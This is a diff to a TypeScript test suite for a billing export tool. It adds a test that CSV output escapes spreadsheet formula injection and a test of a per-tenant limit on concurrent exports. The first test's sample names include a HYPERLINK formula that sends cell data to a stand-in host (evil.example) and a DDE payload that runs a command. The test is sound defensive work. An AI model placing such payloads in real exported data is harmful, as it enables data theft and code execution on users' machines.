@@ -6,6 +6,8 @@ import { buildTestApp, client, newTenant, type TestApp } from '../helpers/app';
 import { buildUsageUnit } from '../helpers/factories/catalog';
 import { advance, billingWorld, storeContract } from '../helpers/factories/billing';
 import { cli } from '../helpers/cli';
+import { EXPORTS_PER_TENANT, exportBatches } from '../../src/services/platform';
+import { tenantIdOf } from '../helpers/factories/billing';
 
 let t: TestApp;
 let dir: string;
@@ -94,6 +96,32 @@ describe('billing export', () => {
     expect(lines).toHaveLength(1 + 3); // header + 1 line of April + 2 lines of May
   });
 
+  it('CSV neutralises cells a spreadsheet would run as formulas (a leading quote), keeps plain numbers; NDJSON keeps the text', async () => {
+    const keys = await newTenant(t.db);
+    const c = client(t.app, keys.sandboxKey);
+    const w = await billingWorld(t.db, c, keys.providerId);
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', '\tx', '\rx', '-1200'];
+    await t.db.updateTable('customer').set({ name: names[0]! }).where('id', '=', w.customerId).execute();
+    for (const name of names.slice(1)) expect((await c.post('/v1/customer/create', { name })).status, name).toBe(200);
+    const csv = await run(keys.providerId, 'customers', '--format', 'csv');
+    expect(csv.code).toBe(0);
+    const text = csv.out.join('\n');
+    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
+    expect(text).toContain("'+cmd|' /C calc'!A0");
+    expect(text).toContain("'@SUM(A1:A9)");
+    expect(text).toContain("'-2+3");
+    expect(text).toContain("'\tx");
+    expect(text).toContain('"\'\rx"');
+    // A plain negative number is a number, not a formula.
+    expect(text).toMatch(/,-1200,|,-1200$/m);
+    // No cell of the file starts with a formula character.
+    for (const line of text.split('\n').slice(1)) {
+      for (const cellText of line.split(',')) expect(/^"?[=+@\t]/.test(cellText), cellText).toBe(false);
+    }
+    const ndjson = (await run(keys.providerId, 'customers')).out.join('\n').split('\n');
+    expect(ndjson.map((l) => (JSON.parse(l) as { name: string }).name).sort()).toEqual([...names].sort());
+  });
+
   it("exports nothing of another provider's or the other environment's data", async () => {
     const { keys } = await exportWorld();
     const other = await newTenant(t.db);
@@ -105,6 +133,23 @@ describe('billing export', () => {
       expect(prod.out).toEqual([]);
       expect(prod.err.at(-1)).toMatch(new RegExp(`^exported 0 ${resource} in `));
     }
+  });
+
+  it(`runs at most ${EXPORTS_PER_TENANT} exports of one tenant at once; one more is refused, another tenant's is not`, async () => {
+    const { keys } = await exportWorld();
+    const tenantId = await tenantIdOf(t.db, keys.providerId);
+    // Exports in progress: each has read its first batch and holds one of the tenant's export leases.
+    const running = Array.from({ length: EXPORTS_PER_TENANT }, () => exportBatches(t.db, tenantId, 'customers', 1));
+    for (const r of running) expect((await r.next()).done).toBe(false);
+    const refused = await run(keys.providerId, 'customers');
+    expect(refused.code).toBe(1);
+    expect(refused.err.join('\n')).toContain(`${EXPORTS_PER_TENANT} exports of this tenant are running already`);
+    const other = await newTenant(t.db);
+    expect((await run(other.providerId, 'customers')).code).toBe(0);
+    // An export left early (its loop ended) gives its lease back.
+    await running[0]!.return(undefined);
+    expect((await run(keys.providerId, 'customers')).code).toBe(0);
+    for (const r of running.slice(1)) await r.return(undefined);
   });
 
   it.each([
